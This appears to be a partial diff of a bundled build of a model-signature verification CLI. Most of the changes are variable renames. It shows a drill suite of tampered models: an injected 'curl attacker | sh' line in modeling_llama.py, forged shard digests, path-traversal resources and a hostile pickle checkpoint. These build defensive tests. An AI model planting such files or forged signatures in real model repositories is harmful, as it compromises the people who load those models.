         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile6(path19.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile5(path19.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -59828,13 +59819,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile6(path19.join(m2, SHARD_1), evil);
+          await writeFile5(path19.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile6(path19.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile5(path19.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -59844,7 +59835,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile6(path19.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile5(path19.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
@@ -59859,7 +59850,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const outside = path19.join(ctx.tmp, "secret.bin");
-          await writeFile6(outside, "outside the model\n");
+          await writeFile5(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
       },
@@ -59869,7 +59860,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const outside = path19.join(ctx.tmp, "secret-abs.bin");
-          await writeFile6(outside, "outside the model (absolute)\n");
+          await writeFile5(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
       },
@@ -59974,7 +59965,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = path19.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile6(path19.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile5(path19.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
@@ -60114,11 +60105,11 @@ async function drillVerifier(cfg) {
   if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
   const [{ lineageStage: lineageStage2, openStore: openStore2 }, { policyStage: policyStage2 }, { formatsStages: formatsStages2 }, { verifyModel: verifyModel2 }] = await Promise.all([
     Promise.resolve().then(() => (init_lineage(), lineage_exports)),
-    Promise.resolve().then(() => (init_stage2(), stage_exports)),
+    Promise.resolve().then(() => (init_stage(), stage_exports)),
     Promise.resolve().then(() => (init_formats(), formats_exports)),
     Promise.resolve().then(() => (init_pipeline(), pipeline_exports))
   ]);
-  const formats = policy ? formatsStages2(policy.formats) : [];
+  const formats = policy ? await formatsStages2(policy.formats) : [];
   const features = /* @__PURE__ */ new Set(["keys", "lineage"]);
   if (policy) features.add("policy");
   if (policy?.formats && (policy.formats.scan || policy.formats.deny.length > 0)) features.add("scan");
@@ -62043,11 +62034,11 @@ var init_index = __esm({
     init_trust_key();
     init_pipeline();
     init_load();
-    init_stage2();
+    init_stage();
     init_trust();
     init_licenses();
     init_scan_path();
-    init_stage();
+    init_stage2();
     init_lineage();
     init_archive();
     init_append();
@@ -62229,7 +62220,7 @@ async function prepareLineage(model, o) {
       if (loaded2.length > 0) {
         const self = loaded2.find((p2) => p2.verified.rootDigest === `sha256:${r.rootDigest}`);
         if (self) throw usage("LINEAGE_CYCLE", `--parent ${self.file} has the same root digest as the model (sha256:${r.rootDigest}): a model cannot be its own parent; nothing was written`);
-        const { writeAtomic: writeAtomic2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
+        const { writeAtomic: writeAtomic2 } = await Promise.resolve().then(() => (init_write_atomic(), write_atomic_exports));
         await writeAtomic2(r.signaturePath, r.bundleText);
       }
       if (storeDir === void 0) return;
@@ -62431,7 +62422,7 @@ var keyPlugin = {
 // src/cli/verify-policy.ts
 init_esm();
 init_errors();
-import path12 from "node:path";
+import path10 from "node:path";
 var CLI_TRUST_FLAGS = ["key", "certificateChain", "identity", "identityRegexp", "identityRegExp", "certificateIdentity", "certificateIdentityRegexp"];
 var loaded = /* @__PURE__ */ new WeakMap();
 function cliTrustGiven(flags) {
@@ -62465,14 +62456,14 @@ Policy (exit 1 when it refuses the model: license, revoked, minimum version, for
     const policy = loaded.get(flags);
     if (!policy?.trust || cliTrustGiven(flags)) return [];
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
-    return policyTrust2(policy.trust, (f2) => path12.relative(path12.dirname(policy.file), f2));
+    return policyTrust2(policy.trust, (f2) => path10.relative(path10.dirname(policy.file), f2));
   },
   async stages(flags) {
     const policy = loaded.get(flags);
     if (!policy) return [];
-    const { policyStage: policyStage2 } = await Promise.resolve().then(() => (init_stage2(), stage_exports));
+    const { policyStage: policyStage2 } = await Promise.resolve().then(() => (init_stage(), stage_exports));
     const { formatsStages: formatsStages2 } = await Promise.resolve().then(() => (init_formats(), formats_exports));
-    return [policyStage2(policy, flags.purpose ?? "deploy"), ...formatsStages2(policy.formats)];
+    return [policyStage2(policy, flags.purpose ?? "deploy"), ...await formatsStages2(policy.formats)];
   }
 };
 
@@ -62745,28 +62736,28 @@ var podPlugin = {
 
 // src/cli/verify-audit.ts
 init_errors();
-import path16 from "node:path";
+import path14 from "node:path";
 function str2(v2) {
   return typeof v2 === "string" ? v2 : null;
 }
 function base(model, flags) {
   return {
     time: (/* @__PURE__ */ new Date()).toISOString(),
-    model: path16.resolve(model),
-    signature: str2(flags.signature) ? path16.resolve(flags.signature) : null,
+    model: path14.resolve(model),
+    signature: str2(flags.signature) ? path14.resolve(flags.signature) : null,
     rootDigest: null,
     name: null,
     version: null,
     signer: null,
     // Flags other plugins own; recorded when they are present.
-    policy: str2(flags.policy) ? path16.resolve(flags.policy) : null,
+    policy: str2(flags.policy) ? path14.resolve(flags.policy) : null,
     purpose: str2(flags.purpose)
   };
 }
 function decisionFromResult(flags, r) {
   return {
     ...base(r.model, flags),
-    signature: path16.resolve(r.signature),
+    signature: path14.resolve(r.signature),
     rootDigest: r.rootDigest ? `sha256:${r.rootDigest}` : null,
     name: r.metadata?.name ?? r.subjectName ?? null,
     version: r.metadata?.version ?? null,
